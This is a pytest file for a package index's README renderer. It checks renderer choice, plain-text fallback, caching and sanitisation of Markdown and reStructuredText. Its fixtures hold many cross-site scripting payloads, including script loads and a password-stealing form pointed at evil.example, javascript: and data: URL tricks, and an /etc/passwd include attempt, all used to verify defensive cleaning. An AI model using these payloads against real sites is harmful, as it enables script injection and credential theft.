"""README rendering: PyPI's choice of renderer and fallback, and nothing executable survives."""

from __future__ import annotations

import re
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser

import pytest
import readme_renderer.rst
from markupsafe import Markup, escape

from cheeseboard.http.ui import readme
from cheeseboard.http.ui.readme import (
    MAX_DESCRIPTION_CHARS,
    render_description,
    render_description_async,
)


class _Tags(HTMLParser):
    """Every start tag with its attributes (entities decoded), as a browser would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parse(html: str) -> _Tags:
    parser = _Tags()
    parser.feed(html)
    parser.close()
    return parser


def tags_of(html: str) -> list[str]:
    return [tag for tag, _ in parse(html).tags]


DANGEROUS_TAGS = {
    "script",
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "form",
    "button",
    "textarea",
    "select",
    "svg",
    "math",
    "base",
    "link",
    "meta",
    "template",
    "noscript",
    "body",
    "html",
    "audio",
    "video",
    "source",
}
DANGEROUS_ATTRIBUTES = {"style", "srcdoc", "action", "formaction", "xmlns", "xlink:href", "name"}
URL_ATTRIBUTES = {"href", "src", "srcset", "action", "formaction", "poster", "background", "cite"}
_INVISIBLE = re.compile(r"[\x00-\x20\x7f]+")


def assert_safe(html: str) -> None:
    """No element or attribute that can run script, load active content, or post a form."""
    for tag, attrs in parse(html).tags:
        assert tag not in DANGEROUS_TAGS, (tag, attrs, html)
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, html)
            assert name not in DANGEROUS_ATTRIBUTES, (tag, name, html)
            if name in URL_ATTRIBUTES:
                scheme = _INVISIBLE.sub("", value).lower()
                assert not scheme.startswith(("javascript:", "vbscript:", "data:")), (tag, value)
            if name == "id":
                assert value.startswith("user-content-"), (tag, value)  # no DOM clobbering
        if tag == "a":
            assert {"nofollow", "noopener", "noreferrer"} <= set(attrs.get("rel", "").split())
        if tag == "input":
            assert attrs.get("type", "checkbox") == "checkbox" and "disabled" in attrs


@pytest.fixture(autouse=True)
def fresh_cache() -> Iterator[None]:
    readme.clear_cache()
    yield
    readme.clear_cache()


# --- choosing the renderer ------------------------------------------------------------------

MARKDOWN = """\
# Project title

## Usage

Install it and call [the docs](https://example.com/docs) or jump to [usage](#usage).

```python
def greet(name):
    return f"hello {name}"
```

| option | meaning |
|--------|---------|
| `-v`   | verbose |

- [x] done
- [ ] open
"""


def test_markdown_renders_headings_code_and_tables() -> None:
    html = render_description(MARKDOWN, "text/markdown")
    assert isinstance(html, Markup)
    parsed = parse(html)
    tags = [tag for tag, _ in parsed.tags]
    assert {"h1", "h2", "pre", "table", "thead", "th", "td"} <= set(tags)
    headings = {attrs.get("id") for tag, attrs in parsed.tags if tag in ("h1", "h2")}
    assert headings == {"user-content-project-title", "user-content-usage"}
    # Fenced code is highlighted by Pygments: keyword spans carry its short class names.
    classes = {attrs.get("class") for tag, attrs in parsed.tags if tag == "span"}
    assert {"k", "nf"} <= classes
    assert ("pre", {"lang": "python"}) in parsed.tags
    links = {attrs["href"] for tag, attrs in parsed.tags if tag == "a" and "href" in attrs}
    assert {"https://example.com/docs", "#user-content-usage"} <= links
    assert ("input", {"type": "checkbox", "checked": "", "disabled": ""}) in parsed.tags
    assert_safe(html)


def test_markdown_variants_and_parameters() -> None:
    gfm = render_description("~~gone~~ www.example.com", "text/markdown; variant=GFM")
    assert "del" in tags_of(gfm) and "a" in tags_of(gfm)
    assert render_description("~~gone~~", "text/markdown") == render_description(
        "~~gone~~", "text/markdown; variant=gfm"
    )
    commonmark = render_description(
        "~~gone~~ | a |\n|---|\n| b |", "text/markdown; variant=CommonMark"
    )
    assert "del" not in tags_of(commonmark) and "table" not in tags_of(commonmark)
    with_charset = render_description("# Hi", 'Text/Markdown; charset="UTF-8"; variant=GFM')
    assert tags_of(with_charset)[0] == "h1"


def test_unknown_markdown_variant_falls_back_to_plain_text() -> None:
    html = render_description("# not a heading", "text/markdown; variant=Nope")
    assert "h1" not in tags_of(html) and "# not a heading" in html


RST = """\
Project title
=============

Read `the docs <https://example.com/docs>`_.

.. code-block:: python

   def greet(name):
       return name

====== =======
option meaning
====== =======
-v     verbose
====== =======
"""


def test_rst_renders_headings_links_code_and_tables() -> None:
    html = render_description(RST, "text/x-rst")
    parsed = parse(html)
    tags = [tag for tag, _ in parsed.tags]
    assert {"h1", "a", "pre", "code", "table", "td"} <= set(tags)
    classes = {attrs.get("class") for tag, attrs in parsed.tags if tag == "span"}
    assert {"k", "nf"} <= classes
    assert any(attrs.get("href") == "https://example.com/docs" for _, attrs in parsed.tags)
    assert_safe(html)


@pytest.mark.parametrize("content_type", [None, "", "   "])
def test_no_content_type_means_rst_as_on_pypi(content_type: str | None) -> None:
    assert render_description(RST, content_type) == render_description(RST, "text/x-rst")
    assert "h1" in tags_of(render_description(RST, content_type))


def test_plain_text_is_escaped_and_preformatted() -> None:
    text = "Title\n=====\n\n  indented <b>not bold</b> & more"
    html = render_description(text, "text/plain")
    assert tags_of(html) == ["pre", "br", "br", "br"]
    assert "&lt;b&gt;not bold&lt;/b&gt; &amp; more" in html
    assert "".join(parse(html).text) == "Title=====  indented <b>not bold</b> & more"


@pytest.mark.parametrize("content_type", ["text/html", "application/json", "nonsense", "text/"])
def test_unknown_types_render_as_plain_text(content_type: str) -> None:
    html = render_description("<h1>Hi</h1>\n*x*", content_type)
    assert tags_of(html) == ["pre", "br"]
    assert "&lt;h1&gt;" in html


def test_failing_rst_falls_back_to_plain_text() -> None:
    text = "Title\n=====\n\n.. raw:: html\n\n   <b>raw</b>\n\nSee `broken <x>`__ `ref`_\n"
    html = render_description(text, "text/x-rst")
    tags = tags_of(html)
    assert set(tags) == {"br"}  # readme-renderer's plain text: escaped, newlines as <br>
    assert ".. raw:: html" in html and "&lt;b&gt;raw&lt;/b&gt;" in html


def test_rst_include_reads_no_local_file() -> None:
    html = render_description("Title\n=====\n\n.. include:: /etc/passwd\n", None)
    assert "root:" not in html
    assert ".. include:: /etc/passwd" in html  # it failed, so the source is shown as text


@pytest.mark.parametrize("text", [None, ""])
def test_empty_description(text: str | None) -> None:
    assert render_description(text, "text/markdown") == Markup("")


def test_huge_description_is_plain_text_cut_with_a_note() -> None:
    text = "# Heading <script>alert(1)</script>\n" + "x" * (MAX_DESCRIPTION_CHARS + 10)
    html = render_description(text, "text/markdown")
    tags = tags_of(html)
    assert tags[0] == "pre" and "h1" not in tags
    assert "longer than 1 MiB" in html
    assert len(html) < MAX_DESCRIPTION_CHARS + 1000
    assert_safe(html)


def test_lone_surrogates_and_nul_do_not_break_rendering() -> None:
    for content_type in ("text/markdown", "text/x-rst", "text/plain"):
        html = render_description("Title \ud800 and \x00 nul\n", content_type)
        assert "Title" in html
        assert_safe(html)


# --- hostile READMEs ------------------------------------------------------------------------

HOSTILE_HTML = """\
<script>alert('script')</script>
<ScRiPt src="https://evil.example/x.js"></ScRiPt>
<img src="x" onerror="alert('onerror')">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="data image">
<body onload="alert('onload')">
<div onclick="alert('onclick')" style="background:url(javascript:alert(1))" id="csrf_token">x</div>
<p onmouseover="alert(1)" class="x">p</p>
<a href="javascript:alert('js')">js link</a>
<a href=" JaVaScRiPt:alert('js')">js link 2</a>
<a href="java&#x09;script:alert('tab')">js link 3</a>
<a href="&#106;avascript:alert('entity')">js link 4</a>
<a href="vbscript:msgbox('vb')">vb link</a>
<a href="data:text/html,<script>alert('data')</script>">data link</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link 2</a>
<a href="https://ok.example/" target="_blank" rel="opener">fine link</a>
<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>
<style>body { display: none }</style>
<link rel="stylesheet" href="https://evil.example/x.css">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<base href="javascript:alert(1)//">
<svg onload="alert('svg')"><circle r="1"/></svg>
<math><mi xlink:href="javascript:alert('math')">m</mi></math>
<object data="https://evil.example/x.swf"></object>
<embed src="https://evil.example/x.swf">
<form action="https://evil.example/steal"><input type="password" name="pw">
<button formaction="javascript:alert(1)">go</button></form>
<details open ontoggle="alert('toggle')"><summary>s</summary></details>
<noscript><p title="</noscript><img src=x onerror=alert('mxss')>"></p></noscript>
<template><img src=x onerror=alert('template')></template>
<video poster="javascript:alert(1)"><source src="x"></video>
"""

HOSTILE_MARKDOWN = (
    "# Hostile\n\n"
    "[md js link](javascript:alert('md'))\n\n"
    "[md data link](data:text/html,<script>alert(1)</script>)\n\n"
    "![md js image](javascript:alert('img'))\n\n"
    "<https://ok.example/> and <javascript:alert(1)>\n\n" + HOSTILE_HTML
)

HOSTILE_RST = """\
Hostile
=======

A `js link <javascript:alert('rst')>`_ and a
`data link <data:text/html,%3Cscript%3Ex%3C/script%3E>`_.

.. image:: javascript:alert('image')

.. image:: data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+
   :target: javascript:alert('target')

.. class:: onclick

   A paragraph with a hostile class.

.. |sub| image:: x.png
   :target: vbscript:msgbox(1)

Substituted |sub|.
"""

HOSTILE_RST_RAW = (
    HOSTILE_RST
    + "\n.. raw:: html\n\n"
    + "\n".join("   " + line for line in HOSTILE_HTML.splitlines())
)


@pytest.mark.parametrize(
    ("text", "content_type"),
    [
        (HOSTILE_MARKDOWN, "text/markdown"),
        (HOSTILE_MARKDOWN, "text/markdown; variant=CommonMark"),
        (HOSTILE_HTML, "text/markdown"),
        (HOSTILE_RST, "text/x-rst"),
        (HOSTILE_RST, None),
        (HOSTILE_RST_RAW, "text/x-rst"),
        (HOSTILE_HTML, "text/plain"),
        (HOSTILE_HTML, "text/html"),
        (HOSTILE_HTML, None),
    ],
)
def test_nothing_executable_survives(text: str, content_type: str | None) -> None:
    html = render_description(text, content_type)
    assert_safe(html)


def test_hostile_markdown_keeps_harmless_content() -> None:
    """Cleaning removes the dangerous parts, not the whole README."""
    html = render_description(HOSTILE_MARKDOWN, "text/markdown")
    parsed = parse(html)
    assert ("h1", {"id": "user-content-hostile"}) in parsed.tags
    hrefs = [attrs.get("href") for tag, attrs in parsed.tags if tag == "a"]
    assert "https://ok.example/" in hrefs
    ok = next(a for t, a in parsed.tags if t == "a" and a.get("href") == "https://ok.example/")
    assert ok == {"href": "https://ok.example/", "rel": "nofollow noopener noreferrer"}
    assert ("div", {"id": "user-content-csrf_token"}) in parsed.tags


def test_hostile_rst_keeps_harmless_content() -> None:
    html = render_description(HOSTILE_RST, "text/x-rst")
    tags = tags_of(html)
    assert "h1" in tags and "img" in tags
    assert "Substituted" in html


def test_rst_raw_block_falls_back_to_escaped_text() -> None:
    html = render_description(HOSTILE_RST_RAW, "text/x-rst")
    assert set(tags_of(html)) == {"br"}
    assert "&lt;script&gt;alert(&#39;script&#39;)&lt;/script&gt;" in html or (
        "&lt;script&gt;alert('script')&lt;/script&gt;" in html
    )


# --- caching and threads ----------------------------------------------------------------------


def test_results_are_cached_by_text_and_type() -> None:
    first = render_description(MARKDOWN, "text/markdown")
    assert render_description(MARKDOWN, "text/markdown") is first
    assert render_description(MARKDOWN, "text/plain") is not first
    assert len(readme._cache) == 2


def test_cache_is_bounded_by_entries_and_size() -> None:
    cache = readme._RenderCache(max_entries=3, max_chars=100)
    for n in range(5):
        cache.put(str(n), escape("x" * 10))
    assert len(cache) == 3 and cache.get("0") is None and cache.get("4") is not None
    assert cache.get("2") is not None  # now most recently used
    cache.put("big", escape("y" * 80))  # 110 chars: the least recently used one goes
    assert cache.get("3") is None and cache.get("4") is not None and cache.get("2") is not None
    cache.put("huge", escape("z" * 101))  # larger than the whole budget: not kept
    assert cache.get("huge") is None and cache.get("big") is not None


def test_rendering_from_many_threads_matches_serial_rendering() -> None:
    inputs = [
        (f"{RST}\nVariant {n}\n", "text/x-rst")
        if n % 3 == 0
        else (f"{MARKDOWN}\nvariant {n}\n", "text/markdown")
        if n % 3 == 1
        else (f"{HOSTILE_HTML}\n{n}", "text/plain")
        for n in range(48)
    ]
    serial = [str(render_description(text, ct)) for text, ct in inputs]
    readme.clear_cache()
    with ThreadPoolExecutor(8) as pool:
        parallel = list(pool.map(lambda args: str(render_description(*args)), inputs))
    assert parallel == serial


async def test_async_rendering_uses_the_cache() -> None:
    rendered = await render_description_async(RST, None)
    assert rendered == render_description(RST, None)
    assert await render_description_async(RST, None) is rendered
    assert await render_description_async("", None) == Markup("")


def test_a_crashing_renderer_shows_plain_text_and_is_not_cached(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def explode(raw: str, **kwargs: object) -> str:
        raise IndexError("docutils bug")

    monkeypatch.setattr(readme_renderer.rst, "render", explode)
    html = render_description("Title\n=====\n\n<script>x</script>", None)
    assert set(tags_of(html)) == {"br"} and "&lt;script&gt;" in html
    assert len(readme._cache) == 0
